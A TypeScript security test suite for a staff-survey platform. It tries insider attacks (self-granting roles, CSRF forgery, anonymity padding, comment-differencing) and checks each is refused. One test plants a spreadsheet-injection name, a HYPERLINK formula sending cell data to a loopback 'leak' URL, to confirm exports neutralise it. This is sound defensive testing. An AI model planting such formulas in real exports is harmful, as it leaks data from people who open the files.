import ExcelJS from 'exceljs';
import { Client } from 'pg';
import { demoData, nationalId } from '@harbour/demo';
import { INSTRUMENTS } from '@harbour/survey-kit';
import { untilFolded } from '../support/delivery';
import { DEMO_ACCOUNTS, postGraphQL, signInAs, startTestPlatform, type TestPlatform } from '../support/platform';

/**
 * Harbour's promises against its own users: each attack issue 12 found, tried as an insider
 * would (a trust's admin with the demo's accounts), through the gateway.
 */
let platform: TestPlatform;
let owner: Client;
const demo = demoData();
const trust = demo.organisations.find((o) => o.kind === 'trust' && o.name.startsWith('Northmoor'))!;

beforeAll(async () => {
  platform = await startTestPlatform({ HARBOUR_DELIVERY_EVERY_MS: '500' });
  owner = new Client({ connectionString: platform.database.ownerUrl });
  await owner.connect();
}, 120_000);

afterAll(async () => {
  await owner?.end();
  await platform?.stop();
});

const FORMULA = /^[=+\-@\t\r]/;
const COMMUNITY = nationalId('setting', 'community');
const INPATIENT = nationalId('setting', 'inpatient');
const LINK = /\/s\/([A-Za-z0-9_-]{43})/;

/** A GraphQL operation with variables; the parsed body. */
async function graphql(headers: Record<string, string>, query: string, variables: Record<string, unknown> = {}) {
  const response = await fetch(platform.gatewayUrl, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ query, variables }) });
  // The shape is the query's; each test reads what it asked for.
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  return (await response.json()) as { data?: any; errors?: { message: string; extensions: Record<string, unknown> }[] };
}

/** Answers to every required question of "Where I belong", each rating at `rating`. */
function answers(rating: number, where: string): Record<string, unknown> {
  const form = INSTRUMENTS.find((i) => i.code === 'where_i_belong')!.json;
  return Object.fromEntries(
    form.pages.flatMap((p) => p.elements).filter((q) => q.isRequired).map((q) => [q.name, q.type === 'rating' ? rating : q.type === 'boolean' ? true : where]),
  );
}

/** The personal links of a campaign's first `count` messages, read from the outbox as delivery writes them. */
async function linksOf(campaignId: string, count: number): Promise<string[]> {
  const bodies = async () => (await owner.query(`SELECT o.body FROM responses.outbox o JOIN responses.invitation i ON i.id = o.invitation_id WHERE i.campaign_id = $1`, [campaignId])).rows as { body: string }[];
  for (let tries = 0; tries < 80 && (await bodies()).length < count; tries++) await new Promise((resolve) => setTimeout(resolve, 250));
  return (await bodies()).slice(0, count).map((m) => LINK.exec(m.body)![1]!);
}

/** Every cell of a CSV (quoted cells unquoted), good enough for the files Harbour writes. */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  for (const match of csv.matchAll(/("(?:[^"]|"")*"|[^,\n]*)(,|\n|$)/g)) {
    const raw = match[1]!;
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (match[2] === '') break;
  }
  return cells;
}

describe('a trust admin against their own trust', () => {
  it('cannot give their own account a researcher grant, nor any grant, so takes no raw rows away', async () => {
    const admin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
    for (const role of ['RESEARCHER', 'EVALUATOR', 'TRUST_ADMIN']) {
      const granted = await postGraphQL(platform.gatewayUrl, `mutation { grantAccess(input: { email: "${DEMO_ACCOUNTS.northmoorAdmin}", organisationId: "${trust.id}", role: ${role} }) { id } }`, admin);
      expect(granted.body.errors?.[0]?.extensions).toMatchObject({ code: 'FORBIDDEN', reason: 'SELF_GRANT' });
    }
    const history = demo.history.find((h) => h.tenantId === trust.id)!;
    const again = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
    const raw = await fetch(`${new URL('/exports/responses.csv', platform.gatewayUrl)}?campaignId=${history.id}`, { headers: again });
    expect(raw.status).toBe(403);
    const grants = await owner.query(`SELECT g.role FROM directory.access_grant g JOIN directory.account a ON a.id = g.account_id WHERE a.email = $1`, [DEMO_ACCOUNTS.northmoorAdmin]);
    expect(grants.rows).toEqual([{ role: 'trust_admin' }]);
  });

  it('cannot plant a live formula in an export by naming an organisation', async () => {
    const admin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
    const planted = '=HYPERLINK("http://127.0.0.1:5999/?leak="&A2,"Open")';
    const rename = async (id: string, name: string) => {
      const response = await fetch(platform.gatewayUrl, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...admin },
        body: JSON.stringify({ query: `mutation ($name: String!) { updateOrganisation(input: { id: "${id}", name: $name }) { name } }`, variables: { name } }),
      });
      expect(((await response.json()) as { data: { updateOrganisation: { name: string } } }).data.updateOrganisation.name).toBe(name);
    };
    // A service the trust's breakdown lists, and the team most responses were answered from.
    const service = demo.organisations.find((o) => o.name === 'Community Mental Health Service')!;
    await rename(service.id, planted);
    const busiest = await owner.query(`SELECT organisation_id AS id FROM responses.response WHERE tenant_id = $1 GROUP BY 1 ORDER BY count(*) DESC LIMIT 1`, [trust.id]);
    await rename(busiest.rows[0].id, `+${planted}`);

    const evaluator = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorEvaluator);
    const filter = encodeURIComponent(JSON.stringify({ instrument: 'where_i_belong' }));
    const csv = await (await fetch(`${new URL('/exports/role-evaluation.csv', platform.gatewayUrl)}?filter=${filter}&table=breakdown&by=ORGANISATION`, { headers: evaluator })).text();
    const cells = cellsOf(csv);
    expect(cells).toContain(`'${planted}`);
    expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
    // In XLSX the name is a text cell, never a formula.
    const xlsx = await fetch(`${new URL('/exports/role-evaluation.xlsx', platform.gatewayUrl)}?filter=${filter}&by=ORGANISATION`, { headers: evaluator });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as ArrayBuffer);
    const values = workbook.worksheets.flatMap((sheet) => sheet.getSheetValues().flatMap((row) => (Array.isArray(row) ? row : [])));
    expect(values).toContain(planted);
    expect(values.filter((v) => typeof v === 'object' && v !== null && 'formula' in v)).toEqual([]);

    // The same name in raw rows, for a researcher (granted by a platform admin).
    const platformAdmin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.platformAdmin);
    await postGraphQL(platform.gatewayUrl, 'mutation { createAccount(input: { email: "insider.researcher@northmoor.example", displayName: "R", password: "a long password 43" }) { id } }', platformAdmin);
    const granted = await postGraphQL(platform.gatewayUrl, `mutation { grantAccess(input: { email: "insider.researcher@northmoor.example", organisationId: "${trust.id}", role: RESEARCHER }) { id } }`, platformAdmin);
    expect(granted.body.errors).toBeUndefined();
    const researcher = await signInAs(platform.gatewayUrl, 'insider.researcher@northmoor.example', 'a long password 43');
    const history = demo.history.find((h) => h.tenantId === trust.id)!;
    const rows = await (await fetch(`${new URL('/exports/responses.csv', platform.gatewayUrl)}?campaignId=${history.id}`, { headers: researcher })).text();
    const rawCells = cellsOf(rows);
    expect(rawCells).toContain(`'+${planted}`);
    expect(rawCells.filter((c) => FORMULA.test(c))).toEqual([]);
  });
});

describe('the page policy', () => {
  it('is on every response: pages, the respondent\'s page, GraphQL and downloads', async () => {
    const evaluator = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorEvaluator);
    const filter = encodeURIComponent(JSON.stringify({ instrument: 'where_i_belong' }));
    const answers = [
      await fetch(new URL('/', platform.gatewayUrl)),
      await fetch(new URL('/s/HarbourDemoLinkForTheQuickStartOnlyNotSecre', platform.gatewayUrl)),
      await fetch(platform.gatewayUrl, { headers: { accept: 'text/html' } }),
      await fetch(platform.gatewayUrl, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"query":"{ __typename }"}' }),
      await fetch(`${new URL('/exports/role-evaluation.csv', platform.gatewayUrl)}?filter=${filter}`, { headers: evaluator }),
    ];
    for (const answer of answers) {
      expect(answer.status).toBe(200);
      const csp = answer.headers.get('content-security-policy') ?? '';
      const directives = new Map(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name!, values.join(' ')]));
      expect(directives.get('script-src')).toBe("'self'");
      expect(directives.get('connect-src')).toBe("'self'");
      expect(directives.get('object-src')).toBe("'none'");
      expect(directives.get('base-uri')).toBe("'none'");
      expect(directives.get('frame-ancestors')).toBe("'none'");
      expect(directives.get('default-src')).toBe("'self'");
      expect(answer.headers.get('referrer-policy')).toBe('no-referrer');
      expect(answer.headers.get('permissions-policy')).toMatch(/camera=\(\), .*geolocation=\(\)/);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      // Plain http here: no HSTS (a browser would pin a loopback address to https).
      expect(answer.headers.get('strict-transport-security')).toBeNull();
      await answer.arrayBuffer();
    }
  });
});

describe('the web app\'s session', () => {
  /** Signs in as a browser would: the cookies the gateway set, as one Cookie header, and the CSRF token. */
  async function browserSignIn(email: string): Promise<{ cookie: string; csrf: string; setCookies: string[]; body: unknown }> {
    const response = await fetch(new URL('/auth/session', platform.gatewayUrl), {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email, password: 'harbour-demo-2026' }),
    });
    expect(response.status).toBe(200);
    const setCookies = response.headers.getSetCookie();
    const pairs = setCookies.map((c) => c.split(';')[0]!);
    return {
      cookie: pairs.join('; '),
      csrf: decodeURIComponent(pairs.find((p) => p.startsWith('harbour_csrf='))!.slice('harbour_csrf='.length)),
      setCookies,
      body: await response.json(),
    };
  }

  it('lives in HttpOnly, SameSite=Strict cookies, never in what the page is sent', async () => {
    const { setCookies, body } = await browserSignIn(DEMO_ACCOUNTS.northmoorEvaluator);
    expect(Object.keys(body as object)).toEqual(['expiresAt']);
    const byName = new Map(setCookies.map((c) => [c.split('=')[0]!, c]));
    expect([...byName.keys()].sort()).toEqual(['harbour_csrf', 'harbour_csrf_secret', 'harbour_session']);
    for (const name of ['harbour_session', 'harbour_csrf_secret']) expect(byName.get(name)).toMatch(/; HttpOnly/);
    expect(byName.get('harbour_csrf')).not.toMatch(/HttpOnly/);
    for (const cookie of setCookies) expect(cookie).toMatch(/; Path=\/; .*SameSite=Strict/);
  });

  it('acts only with the CSRF token, so another site\'s page cannot use it', async () => {
    const { cookie, csrf } = await browserSignIn(DEMO_ACCOUNTS.northmoorAdmin);
    const ask = (headers: Record<string, string>, query = '{ me { email } }') =>
      fetch(platform.gatewayUrl, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ query }) });
    const withToken = await ask({ cookie, 'x-harbour-csrf': csrf });
    expect(((await withToken.json()) as { data: { me: { email: string } } }).data.me.email).toBe(DEMO_ACCOUNTS.northmoorAdmin);
    // A cross-site form or fetch carries the cookie (were it not SameSite) but cannot set the header.
    const forgeries: Record<string, string>[] = [{ cookie }, { cookie, 'x-harbour-csrf': 'forged' }, { cookie, 'x-harbour-csrf': (await browserSignIn(DEMO_ACCOUNTS.northmoorEvaluator)).csrf }];
    for (const headers of forgeries) {
      const refused = await ask(headers, 'mutation { createRole(input: { organisationId: "00000000-0000-4000-8000-000000000000", code: "csrf", name: "CSRF" }) { id } }');
      expect(refused.status).toBe(403);
      expect(((await refused.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe('CSRF_TOKEN_INVALID');
    }
    // Downloads are GETs: the cookie alone reads them, as a link in the page would.
    const filter = encodeURIComponent(JSON.stringify({ instrument: 'where_i_belong' }));
    expect((await fetch(`${new URL('/exports/role-evaluation.csv', platform.gatewayUrl)}?filter=${filter}`, { headers: { cookie } })).status).toBe(200);

    // Signing out ends the session for good and takes the cookies away.
    const out = await fetch(new URL('/auth/sign-out', platform.gatewayUrl), { method: 'POST', headers: { cookie, 'x-harbour-csrf': csrf } });
    expect(out.status).toBe(204);
    expect(out.headers.getSetCookie().every((c) => /Max-Age=0/.test(c))).toBe(true);
    expect((await ask({ cookie, 'x-harbour-csrf': csrf })).status).toBe(401);
  });
});

describe('held links, against a trust admin', () => {
  it('are withheld from the outbox until released; released, they cannot pad a small team over its minimum; an anonymous link tells no day', async () => {
    const admin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
    // A team of five, each with an email address, and an anonymous campaign for it alone.
    const team = (await graphql(admin, `mutation { createOrganisation(input: { parentId: "${trust.id}", kind: TEAM, name: "Padding Ward" }) { id } }`)).data.createOrganisation.id as string;
    const emails = [1, 2, 3, 4, 5].map((i) => `padding.${i}@northmoor.example`);
    const csv = ['external_ref,role,employing_organisation,start_date,email', ...emails.map((e, i) => `PAD${i},peer_support_worker,Padding Ward,2026-06-01,${e}`)].join('\n');
    expect((await graphql(admin, 'mutation ($csv: String!) { importStaff(input: { organisationId: "' + trust.id + '", csv: $csv, apply: true }) { rows } }', { csv })).errors).toBeUndefined();
    const survey = (await owner.query(`SELECT id FROM forms.survey WHERE tenant_id = $1 AND title = 'Where I belong: quarterly'`, [trust.id])).rows[0].id;
    const campaignId = (
      await graphql(admin, `mutation { createCampaign(input: { surveyId: "${survey}", versionNumber: 1, name: "Padding round", anonymity: ANONYMOUS, audience: { organisationId: "${team}" }, schedule: { kind: WINDOW, opensOn: "2020-01-01", closesOn: "2099-12-31" } }) { id } }`)
    ).data.createCampaign.id as string;
    expect((await graphql(admin, `mutation { scheduleCampaign(id: "${campaignId}") { state } }`)).data.scheduleCampaign.state).toBe('OPEN');
    const stored = async () =>
      (await owner.query(`SELECT o.recipient, o.body FROM responses.outbox o JOIN responses.invitation i ON i.id = o.invitation_id WHERE i.campaign_id = $1`, [campaignId])).rows as { recipient: string; body: string }[];
    for (let tries = 0; tries < 80 && (await stored()).length < 5; tries++) await new Promise((resolve) => setTimeout(resolve, 250));
    const mailbox = new Map((await stored()).map((m) => [m.recipient, LINK.exec(m.body)![1]!]));
    expect(mailbox.size).toBe(5);

    // The admin's outbox: every message, no link.
    // The team's staff are invited to the demo's open campaign too: its messages stay withheld throughout.
    const outbox = async (campaign = '(Padding round)') =>
      ((await graphql(admin, `{ outbox(organisationId: "${team}", first: 50) { nodes { recipient body } } }`)).data.outbox.nodes as { recipient: string; body: string }[]).filter((m) => m.body.includes(campaign));
    const before = await outbox();
    expect(before.map((m) => m.recipient).sort()).toEqual(emails);
    for (const message of before) {
      expect(message.body).not.toMatch(LINK);
      expect(message.body).toContain('[personal link withheld');
    }

    // The fifth person answers with their own link; after that, the link says it was answered, not when, and shows nothing of it.
    const submit = (token: string, given: Record<string, unknown>, key: string) =>
      graphql({}, 'mutation ($input: SubmitResponseInput!) { submitResponse(input: $input) { repeated } }', { input: { token, answers: given, idempotencyKey: key } });
    expect((await submit(mailbox.get(emails[4]!)!, answers(1, 'nowhere'), 'padding-genuine')).errors).toBeUndefined();
    const done = (await graphql({}, `{ invitation(token: "${mailbox.get(emails[4]!)}") { state completedOn answers savedAt } }`)).data.invitation;
    expect(done).toEqual({ state: 'COMPLETED', completedOn: null, answers: null, savedAt: null });
    expect((await owner.query(`SELECT completed_on FROM responses.invitation WHERE campaign_id = $1 AND state = 'completed'`, [campaignId])).rows).toEqual([{ completed_on: null }]);

    // Released (audited), the links show; the admin answers for the other four with known answers.
    const released = (await graphql(admin, `mutation { releaseInvitationLinks(campaignId: "${campaignId}") { releasedAt messages } }`)).data.releaseInvitationLinks;
    expect(released.messages).toBe(5);
    const held = new Map((await outbox()).map((m) => [m.recipient, LINK.exec(m.body)?.[1]]));
    expect(held.get(emails[0]!)).toBe(mailbox.get(emails[0]!));
    const other = await outbox('(Where I belong: this quarter)');
    expect(other.length).toBe(5);
    for (const message of other) expect(message.body).not.toMatch(LINK);
    for (const [i, email] of emails.slice(0, 4).entries()) expect((await submit(held.get(email)!, answers(5, 'both'), `padding-${i}`)).errors).toBeUndefined();

    // Five responses in the team, but only one no admin could have written: the team's figures stay closed.
    expect((await owner.query(`SELECT count(*)::int AS n, count(*) FILTER (WHERE via_released_link)::int AS released FROM responses.response WHERE campaign_id = $1`, [campaignId])).rows).toEqual([{ n: 5, released: 4 }]);
    await untilFolded(platform);
    const report = await graphql(admin, `{ roleEvaluation(filter: { instrument: "where_i_belong", organisationId: "${team}" }) { figures { suppressed responded } releasedLinks { campaignId releasedAt } } }`);
    expect(report.errors).toBeUndefined();
    expect(report.data.roleEvaluation.figures.suppressed).toBe(true);
    // The report says that this campaign's links were released.
    expect(report.data.roleEvaluation.releasedLinks).toEqual([{ campaignId, releasedAt: released.releasedAt }]);
    const progress = (await graphql(admin, `{ campaignProgress(campaignId: "${campaignId}") { linksReleasedAt } }`)).data.campaignProgress;
    expect(progress.linksReleasedAt).toBe(released.releasedAt);
    const audited = await owner.query(`SELECT details FROM responses.audit_event WHERE action = 'campaign.links_release' AND target_id = $1`, [campaignId]);
    expect(audited.rows).toEqual([{ details: { messages: 5 } }]);

    // The submissions are audited as the campaign's count for the day, the padding shown as such; nothing per person.
    const daily = `{ auditLog(action: "campaign.responses", first: 50) { nodes { targetId client credential actor { email } details } } }`;
    const platformAdmin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.platformAdmin);
    const counted = ((await graphql(platformAdmin, daily)).data.auditLog.nodes as { targetId: string }[]).filter((e) => e.targetId === campaignId);
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/London' }).format(new Date());
    expect(counted).toEqual([{ targetId: campaignId, client: null, credential: null, actor: null, details: { day: today, submitted: 5, throughReleasedLinks: 4, withdrawn: 0, erased: 0 } }]);
    expect((await owner.query(`SELECT count(*)::int AS n FROM responses.audit_event WHERE credential = 'anonymous' OR target_type IN ('invitation', 'response')`)).rows[0].n).toBe(0);
    // The trust's admin does not read those small counts.
    const theirs = await graphql(admin, daily);
    expect(theirs.errors).toBeUndefined();
    expect(theirs.data.auditLog.nodes).toEqual([]);

    // A database reader: no invitation of the campaign keeps a hash of answers, and once the delivery clock has run, none shares a transaction with a response.
    const paired = async () =>
      (
        await owner.query(
          `SELECT count(*)::int AS n FROM responses.invitation i WHERE i.campaign_id = $1 AND i.state = 'completed'
             AND (i.submission_hash IS NOT NULL OR i.xmin::text IN (SELECT xmin::text FROM responses.response WHERE campaign_id = $1))`,
          [campaignId],
        )
      ).rows[0].n as number;
    for (let tries = 0; tries < 40 && (await paired()) > 0; tries++) await new Promise((resolve) => setTimeout(resolve, 250));
    expect(await paired()).toBe(0);
  });

  it('leaves a withdrawal as a count of the day in a pseudonymous campaign, never an event naming the invitation or its client', async () => {
    const admin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
    const team = (await graphql(admin, `mutation { createOrganisation(input: { parentId: "${trust.id}", kind: TEAM, name: "Withdrawal Ward" }) { id } }`)).data.createOrganisation.id as string;
    const emails = [1, 2].map((i) => `withdrawal.${i}@northmoor.example`);
    const csv = ['external_ref,role,employing_organisation,start_date,email', ...emails.map((e, i) => `WDR${i},peer_support_worker,Withdrawal Ward,2026-06-01,${e}`)].join('\n');
    expect((await graphql(admin, 'mutation ($csv: String!) { importStaff(input: { organisationId: "' + trust.id + '", csv: $csv, apply: true }) { rows } }', { csv })).errors).toBeUndefined();
    const survey = (await owner.query(`SELECT id FROM forms.survey WHERE tenant_id = $1 AND title = 'Where I belong: quarterly'`, [trust.id])).rows[0].id;
    const campaignId = (
      await graphql(admin, `mutation { createCampaign(input: { surveyId: "${survey}", versionNumber: 1, name: "Withdrawal round", anonymity: PSEUDONYMOUS, audience: { organisationId: "${team}" }, schedule: { kind: WINDOW, opensOn: "2020-01-01", closesOn: "2099-12-31" } }) { id } }`)
    ).data.createCampaign.id as string;
    expect((await graphql(admin, `mutation { scheduleCampaign(id: "${campaignId}") { state } }`)).data.scheduleCampaign.state).toBe('OPEN');
    const tokens = await linksOf(campaignId, 2);
    for (const [i, token] of tokens.entries()) {
      const submitted = await graphql({}, 'mutation ($input: SubmitResponseInput!) { submitResponse(input: $input) { repeated } }', { input: { token, answers: answers(3, 'host'), idempotencyKey: `withdrawal-${i}` } });
      expect(submitted.errors).toBeUndefined();
    }
    const withdrawn = await graphql({}, `mutation { withdrawResponse(token: "${tokens[0]}") { state } }`);
    expect(withdrawn.data.withdrawResponse.state).toBe('WITHDRAWN');

    const platformAdmin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.platformAdmin);
    const log = (await graphql(platformAdmin, `{ auditLog(first: 200) { nodes { action targetType targetId details } } }`)).data.auditLog.nodes as { action: string; targetType: string; targetId: string; details: Record<string, unknown> }[];
    expect(log.filter((e) => e.targetId === campaignId && e.action === 'campaign.responses').map((e) => e.details)).toEqual([
      { day: expect.any(String), submitted: 2, throughReleasedLinks: 0, withdrawn: 1, erased: 0 },
    ]);
    expect(log.filter((e) => e.targetType === 'invitation' || e.action.startsWith('response.'))).toEqual([]);
  });
});

describe('an evaluator with a script', () => {
  it('reads one count of who answered: a report\'s completed is its responded, in every filter, so no two counts of them differ', async () => {
    const evaluator = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorEvaluator);
    const bases = ['', ...['MONTHS_0_3', 'MONTHS_3_6', 'MONTHS_6_12', 'MONTHS_12_24', 'MONTHS_24_PLUS'].map((b) => `tenureBands: [${b}]`), ...[COMMUNITY, INPATIENT].map((s) => `settingIds: ["${s}"]`)];
    let rated = 0;
    for (const base of bases) {
      for (const from of [undefined, '2025-11', '2026-01', '2026-04', '2026-07']) {
        const filter = ['instrument: "where_i_belong"', base, from ? `from: "${from}"` : ''].filter(Boolean).join(', ');
        const body = await graphql(evaluator, `{ roleEvaluation(filter: { ${filter} }) { invited completed responseRate figures { responded } } }`);
        expect(body.errors).toBeUndefined();
        const { invited, completed, responseRate, figures } = body.data.roleEvaluation;
        expect({ filter, completed }).toEqual({ filter, completed: figures.responded });
        if (responseRate !== null) {
          rated++;
          expect(responseRate).toBeCloseTo(completed / invited, 9);
        }
      }
    }
    expect(rated).toBeGreaterThan(10);
  });

  it('cannot pin a comment to a small group by comparing two filters\' comments', async () => {
    const evaluator = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorEvaluator);
    // The whole trust, each tenure band and each setting, each from five starting months.
    const bases = ['', ...['MONTHS_0_3', 'MONTHS_3_6', 'MONTHS_6_12', 'MONTHS_12_24', 'MONTHS_24_PLUS'].map((b) => `tenureBands: [${b}]`), ...[COMMUNITY, INPATIENT].map((s) => `settingIds: ["${s}"]`)];
    const froms = [undefined, '2025-11', '2026-01', '2026-04', '2026-07'];
    const read = async (base: string, from?: string) => {
      const filter = ['instrument: "where_i_belong"', base, from ? `from: "${from}"` : ''].filter(Boolean).join(', ');
      const body = await graphql(evaluator, `{ roleEvaluation(filter: { ${filter} }) { figures { responded } comments { shown minimum comments { item text } } } }`);
      expect(body.errors).toBeUndefined();
      const report = body.data.roleEvaluation;
      return { responded: (report.figures.responded ?? 0) as number, minimum: report.comments.minimum as number, comments: (report.comments.comments as { item: string; text: string }[]).map((c) => `${c.item}:${c.text}`) };
    };
    let compared = 0;
    let differing = 0;
    for (const band of bases) {
      const reads = [];
      for (const from of froms) reads.push(await read(band, from));
      // Each later start is a narrower filter: what its comments lack came from the respondents it lacks.
      for (let wide = 0; wide < reads.length; wide++) {
        for (let narrow = wide + 1; narrow < reads.length; narrow++) {
          const [a, b] = [reads[wide]!, reads[narrow]!];
          const missing = a.comments.filter((c) => !b.comments.includes(c));
          compared++;
          if (!missing.length || !b.comments.length) continue;
          differing++;
          expect({ band, from: froms[narrow], between: a.responded - b.responded >= a.minimum }).toEqual({ band, from: froms[narrow], between: true });
        }
      }
    }
    expect(compared).toBe(80);
    expect(differing).toBeGreaterThan(0);
  });

  it('sees no count of fewer than k outside the reports: a survey\'s responses, a campaign\'s progress', async () => {
    const admin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
    const team = (await graphql(admin, `mutation { createOrganisation(input: { parentId: "${trust.id}", kind: TEAM, name: "Small Ward" }) { id } }`)).data.createOrganisation.id as string;
    const emails = [1, 2, 3, 4, 5, 6].map((i) => `small.${i}@northmoor.example`);
    const csv = ['external_ref,role,employing_organisation,start_date,email', ...emails.map((e, i) => `SML${i},peer_support_worker,Small Ward,2026-06-01,${e}`)].join('\n');
    expect((await graphql(admin, `mutation ($csv: String!) { importStaff(input: { organisationId: "${trust.id}", csv: $csv, apply: true }) { rows } }`, { csv })).errors).toBeUndefined();
    const surveyId = (await graphql(admin, `mutation { createSurvey(input: { organisationId: "${trust.id}", title: "Small Ward check-in", instrumentCode: "where_i_belong" }) { id } }`)).data.createSurvey.id as string;
    expect((await graphql(admin, `mutation { publishSurvey(surveyId: "${surveyId}") { number } }`)).data.publishSurvey.number).toBe(1);
    const campaignId = (
      await graphql(admin, `mutation { createCampaign(input: { surveyId: "${surveyId}", versionNumber: 1, name: "Small round", audience: { organisationId: "${team}" }, schedule: { kind: WINDOW, opensOn: "2020-01-01", closesOn: "2099-12-31" } }) { id } }`)
    ).data.createCampaign.id as string;
    expect((await graphql(admin, `mutation { scheduleCampaign(id: "${campaignId}") { state } }`)).data.scheduleCampaign.state).toBe('OPEN');
    let body: string | undefined;
    for (let tries = 0; tries < 80 && !body; tries++) {
      body = (await owner.query(`SELECT o.body FROM responses.outbox o JOIN responses.invitation i ON i.id = o.invitation_id WHERE i.campaign_id = $1 AND o.recipient = $2`, [campaignId, emails[0]])).rows[0]?.body;
      if (!body) await new Promise((resolve) => setTimeout(resolve, 250));
    }
    const token = LINK.exec(body!)![1]!;
    const submitted = await graphql({}, 'mutation ($input: SubmitResponseInput!) { submitResponse(input: $input) { repeated } }', { input: { token, answers: answers(2, 'nowhere'), idempotencyKey: 'small-one' } });
    expect(submitted.errors).toBeUndefined();
    expect((await owner.query(`SELECT count(*)::int AS n FROM responses.response WHERE survey_id = $1`, [surveyId])).rows[0].n).toBe(1);
    await untilFolded(platform);

    const evaluator = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorEvaluator);
    for (const caller of [evaluator, admin]) {
      const survey = await graphql(caller, `{ survey(id: "${surveyId}") { responseCount } }`);
      expect(survey.data.survey.responseCount).toBe(0);
    }
    const progress = (await graphql(admin, `{ campaignProgress(campaignId: "${campaignId}") { invited completed responseRate byOrganisation { completed suppressed } } }`)).data.campaignProgress;
    expect(progress).toEqual({ invited: 6, completed: null, responseRate: null, byOrganisation: [{ completed: null, suppressed: true }] });
  });
});
